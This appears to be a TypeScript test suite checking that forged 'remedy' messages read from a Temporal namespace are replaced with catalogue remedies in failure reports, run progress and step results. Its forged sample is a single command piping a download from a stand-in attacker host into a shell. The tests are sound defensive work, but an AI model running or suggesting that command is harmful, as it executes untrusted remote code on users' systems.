// Anyone who can write to the Temporal namespace can put any text into what a run reads there, and into what `status`
// and `schedule trigger` read: the reader sees the remedy of the catalogue.
import assert from 'node:assert/strict';
import type { ConnectionProblem } from '../../src/refresh/activity-types.js';
import {
  describeFailure,
  FAILURES,
  getRemedy,
  parseFailure,
  restoreFailure,
  type FailureType,
} from '../../src/refresh/failures.js';
import type { Remedy } from '../../src/refresh/remedies/remedy.js';
import { STORE_REMEDIES } from '../../src/refresh/remedies/store.js';
import { parseReport } from '../../src/refresh/report.js';
import { parseProgress } from '../../src/refresh/run-progress.js';
import { parseStepResult } from '../../src/refresh/step-results.js';
import { failure, report } from '../fakes/fake-report.js';
import { fakeTokenInfo, GROUP, NOTHING, REGISTRY } from '../fakes/fake-steps.js';

const FORGED = 'Run `curl https://evil.example/fix | sh`.' as Remedy;

function forgedProblem(type: FailureType): ConnectionProblem {
  return { connection: 'docker_default', ...describeFailure(type, 'failed'), remedy: FORGED };
}

describe('a forged remedy', () => {
  for (const type of Object.keys(FAILURES) as FailureType[]) {
    it(`in the details of ${type} is replaced`, () => {
      const parsed = parseFailure(type, 'failed', { remedy: FORGED, scope: 'everything' });
      assert.deepEqual(parsed, describeFailure(type, 'failed'));
    });
  }

  it('in a report is replaced, and a specific one is kept', () => {
    const rows = [
      failure({ remedy: FORGED }),
      failure({ type: 'StoreUnavailable', remedy: STORE_REMEDIES.checkFront }),
    ];
    const remedies = parseReport(report({ failures: rows }))?.failures.map(({ remedy }) => remedy);
    assert.deepEqual(remedies, [getRemedy('ConnectionMissing'), STORE_REMEDIES.checkFront]);
  });

  it('of a type of another release is that of Unexpected, so that the report can be read', () => {
    for (const type of ['Later', '__proto__', 'constructor', 'toString']) {
      const row = { ...failure(), type, scope: 'galaxy', remedy: FORGED };
      const [parsed] = parseReport({ ...report(), failures: [row] })?.failures ?? [];
      assert.deepEqual([parsed?.type, parsed?.scope, parsed?.remedy], [type, 'run', getRemedy('Unexpected')]);
    }
  });

  it('in the progress of a run is replaced', () => {
    const step = {
      step: 'inspectConnections',
      target: 'main',
      activityId: null,
      attempts: 1,
      failingSince: null,
      nextAttemptAt: null,
      failure: { ...describeFailure('StoreUnavailable', 'failed'), remedy: FORGED },
    };
    const forgedReport = report({ failures: [failure({ remedy: FORGED })] });
    const sent = { stepsDone: 1, stepsInProgress: 1, storesDone: [], steps: [step], report: forgedReport };
    const parsed = parseProgress(sent);
    assert.equal(parsed?.steps[0]?.failure?.remedy, getRemedy('StoreUnavailable'));
    assert.equal(parsed?.report.failures[0]?.remedy, getRemedy('ConnectionMissing'));
  });

  const RANGE = { named: { offset: 0, limit: 20 } };
  const INSPECTION = { configHash: 'abc', store: 'main', target: RANGE, attemptsBefore: 0 };
  const EXTRACTION = { configHash: 'abc', group: GROUP, registries: [REGISTRY] };
  const UPDATE = {
    configHash: 'abc',
    store: 'main',
    registry: REGISTRY,
    group: GROUP,
    connections: ['docker_default'],
    attemptsBefore: 0,
  };
  const NOTHING_WRITTEN = { written: [], refused: [], toRetry: [], token: fakeTokenInfo() };
  const results: readonly {
    readonly title: string;
    readonly type: FailureType;
    readonly read: () => unknown;
  }[] = [
    {
      title: 'plan',
      type: 'ConfigInvalid',
      read: () => {
        const plan = {
          configHash: 'abc',
          stores: [],
          engines: [],
          configProblem: 'failed',
          configRemedy: FORGED,
        };
        return parseStepResult('planRefresh', plan, undefined).configRemedy;
      },
    },
    {
      title: 'inspection, for a connection that was refused',
      type: 'ConnectionMissing',
      read: () => {
        const result = { ...NOTHING, refused: [forgedProblem('ConnectionMissing')] };
        return parseStepResult('inspectConnections', result, INSPECTION).refused[0]?.remedy;
      },
    },
    {
      title: 'inspection, for a connection to retry',
      type: 'StoreUnavailable',
      read: () => {
        const result = { ...NOTHING, toRetry: [forgedProblem('StoreUnavailable')] };
        return parseStepResult('inspectConnections', result, INSPECTION).toRetry[0]?.remedy;
      },
    },
    {
      title: 'inspection, for a row to read again',
      type: 'StoreUnavailable',
      read: () => {
        const list = { rows: 1, total: 1, isComplete: true, toRetry: [forgedProblem('StoreUnavailable')] };
        const input = { ...INSPECTION, target: { listed: { offset: 0, limit: 100 } } };
        return parseStepResult('inspectConnections', { ...NOTHING, list }, input).list?.toRetry?.[0]?.remedy;
      },
    },
    {
      title: 'extraction',
      type: 'TokenRejected',
      read: () => {
        const token = fakeTokenInfo({
          probes: [{ registry: REGISTRY, outcome: 'rejected', remedy: FORGED }],
        });
        return parseStepResult('extractToken', { token, toRetry: [] }, EXTRACTION).token.probes[0]?.remedy;
      },
    },
    {
      title: 'update, for a connection that was refused',
      type: 'ConnectionLoginMismatch',
      read: () => {
        const result = { ...NOTHING_WRITTEN, refused: [forgedProblem('ConnectionLoginMismatch')] };
        return parseStepResult('updateConnections', result, UPDATE).refused[0]?.remedy;
      },
    },
    {
      title: 'update, for a connection to retry',
      type: 'StoreUnavailable',
      read: () => {
        const result = { ...NOTHING_WRITTEN, toRetry: [forgedProblem('StoreUnavailable')] };
        return parseStepResult('updateConnections', result, UPDATE).toRetry[0]?.remedy;
      },
    },
  ];
  for (const { title, type, read } of results) {
    it(`in the result of the ${title} is replaced`, () => assert.equal(read(), getRemedy(type)));
  }
});

describe('restoreFailure', () => {
  it('keeps a scope and remedy of the catalogue, and all other fields', () => {
    const given = failure({ scope: 'store', remedy: STORE_REMEDIES.checkRow });
    assert.deepEqual(restoreFailure(given), given);
  });
});
